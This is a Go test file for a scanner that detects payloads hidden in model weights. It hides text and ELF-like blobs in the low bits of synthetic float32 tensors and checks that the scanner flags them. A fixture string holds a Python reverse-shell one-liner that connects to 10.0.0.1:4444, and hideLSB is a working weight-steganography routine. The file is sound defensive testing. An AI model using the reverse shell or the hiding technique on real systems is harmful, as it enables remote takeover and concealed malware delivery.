package weights

import (
	"bytes"
	"context"
	"encoding/binary"
	"math"
	"math/rand/v2"
	"syscall"
	"testing"

	"github.com/aigis-dev/aigis/analyzer"
	"github.com/aigis-dev/aigis/report"
)

// gaussF32 is n float32 weights drawn like an initialised or trained
// layer (std 0.02), little-endian.
func gaussF32(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, 1))
	b := make([]byte, 4*n)
	for i := 0; i < n; i++ {
		binary.LittleEndian.PutUint32(b[4*i:], math.Float32bits(float32(r.NormFloat64()*0.02)))
	}
	return b
}

// halfOrigin rounds float32 weights to bfloat16 precision, as a model
// trained in bf16 and saved in fp32 is.
func halfOrigin(b []byte) []byte {
	for i := 0; i+4 <= len(b); i += 4 {
		u := binary.LittleEndian.Uint32(b[i:])
		binary.LittleEndian.PutUint32(b[i:], u&0xffff0000)
	}
	return b
}

// hideLSB writes payload into the k low bits of consecutive float32
// elements starting at element start (EvilModel/StegoNet style).
func hideLSB(b []byte, payload []byte, k, start int) {
	bitsIn := 0
	el := start
	for bitsIn < 8*len(payload) {
		u := binary.LittleEndian.Uint32(b[4*el:])
		var v uint32
		for j := 0; j < k && bitsIn < 8*len(payload); j++ {
			bit := payload[bitsIn/8] >> (bitsIn % 8) & 1
			v |= uint32(bit) << j
			bitsIn++
		}
		u = u&^(1<<k-1) | v
		binary.LittleEndian.PutUint32(b[4*el:], u)
		el++
	}
}

// textPayload looks like a script or source file.
func textPayload(n int) []byte {
	var b bytes.Buffer
	for b.Len() < n {
		b.WriteString("import os, socket, subprocess; s=socket.socket(); s.connect(('10.0.0.1', 4444)); subprocess.call(['/bin/sh', '-i'])\n")
	}
	return b.Bytes()[:n]
}

// elfPayload is an executable-looking blob: a header, code-like bytes and
// zero padding.
func elfPayload(n int) []byte {
	b := make([]byte, n)
	copy(b, "\x7fELF\x02\x01\x01\x00")
	r := rand.New(rand.NewPCG(7, 7))
	for i := 64; i < n; i++ {
		if i%7 < 3 {
			b[i] = byte(r.IntN(256))
		}
	}
	return b
}

func randomPayload(n int) []byte {
	b := make([]byte, n)
	r := rand.New(rand.NewPCG(9, 9))
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return b
}

func scanOne(t testing.TB, dt DType, data []byte) *analyzer.Result {
	out := analyzer.NewResult(nil)
	err := Scan(context.Background(), bytes.NewReader(data), []Tensor{{Name: "w", DType: dt, Offset: 0, Size: int64(len(data))}}, out)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func has(out *analyzer.Result, rule string) bool {
	for _, f := range out.Findings() {
		if f.Rule == rule {
			return true
		}
	}
	return false
}

func TestWeights_LSBPayloads(t *testing.T) {
	const n = 2 << 20 // 2M float32 elements, 8 MiB
	const kib64 = 64 << 10
	cases := []struct {
		name   string
		data   func() []byte
		flag   bool
		reason string
	}{
		{"CleanGaussian", func() []byte { return gaussF32(n, 1) }, false, ""},
		{"CleanHalfOrigin", func() []byte { return halfOrigin(gaussF32(n, 2)) }, false, ""},
		{"TextIn8LowBits", func() []byte { b := gaussF32(n, 3); hideLSB(b, textPayload(kib64), 8, 100000); return b }, true, ""},
		{"TextIn1LowBit", func() []byte { b := gaussF32(n, 4); hideLSB(b, textPayload(kib64), 1, 50000); return b }, true, ""},
		{"ExecutableIn4LowBits", func() []byte { b := gaussF32(n, 5); hideLSB(b, elfPayload(kib64), 4, 0); return b }, true, ""},
		{"ExecutableIn8LowBitsHeader", func() []byte { b := gaussF32(n, 6); hideLSB(b, elfPayload(kib64), 8, 123457); return b }, true, ""},
		{"RandomIn8LowBitsOfHalfOriginWeights", func() []byte { b := halfOrigin(gaussF32(n, 7)); hideLSB(b, randomPayload(kib64), 8, 300000); return b }, true, ""},
		{"RandomIn16LowBitsOfHalfOriginWeights", func() []byte { b := halfOrigin(gaussF32(n, 8)); hideLSB(b, randomPayload(kib64), 16, 300000); return b }, true, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := scanOne(t, F32, c.data())
			got := has(out, "weights-lsb-payload")
			if got != c.flag {
				t.Errorf("lsb payload flagged=%v, want %v: %+v", got, c.flag, out.Findings())
			}
			if !c.flag && out.Verdict() != report.Clean {
				t.Errorf("clean weights flagged: %+v", out.Findings())
			}
		})
	}
}

func TestWeights_NaNInfOutlierMagic(t *testing.T) {
	b := gaussF32(1<<16, 11)
	binary.LittleEndian.PutUint32(b[40:], math.Float32bits(float32(math.NaN())))
	binary.LittleEndian.PutUint32(b[80:], math.Float32bits(float32(math.Inf(1))))
	out := scanOne(t, F32, b)
	if !has(out, "weights-nan-inf") {
		t.Errorf("NaN/Inf not reported: %+v", out.Findings())
	}
	b = gaussF32(1<<20, 12)
	binary.LittleEndian.PutUint32(b[4000:], math.Float32bits(3e30))
	if out := scanOne(t, F32, b); !has(out, "weights-extreme-outlier") {
		t.Errorf("outlier not reported: %+v", out.Findings())
	}
	b = gaussF32(1<<16, 13)
	copy(b[1000:], elfPayload(4096))
	if out := scanOne(t, F32, b); !has(out, "weights-embedded-file") {
		t.Errorf("embedded ELF not reported: %+v", out.Findings())
	}
}

func BenchmarkScanF32(b *testing.B) {
	data := gaussF32(16<<20, 1) // 64 MiB
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		out := analyzer.NewResult(nil)
		if err := Scan(context.Background(), bytes.NewReader(data), []Tensor{{Name: "w", DType: F32, Size: int64(len(data))}}, out); err != nil {
			b.Fatal(err)
		}
	}
}

// cpuTime is the process's user+system time, so that throughput can be
// measured per core even on a busy machine.
func cpuTime() float64 {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return float64(ru.Utime.Nano()+ru.Stime.Nano()) / 1e9
}

// BenchmarkScanF32PerCore reports MB per CPU-second: multiply by the
// cores available for the wall-clock figure on an idle machine.
func BenchmarkScanF32PerCore(b *testing.B) {
	data := gaussF32(16<<20, 1)
	b.SetBytes(int64(len(data)))
	c0 := cpuTime()
	for b.Loop() {
		out := analyzer.NewResult(nil)
		if err := Scan(context.Background(), bytes.NewReader(data), []Tensor{{Name: "w", DType: F32, Size: int64(len(data))}}, out); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)*float64(len(data))/1e6/(cpuTime()-c0), "MB/cpu-s")
}
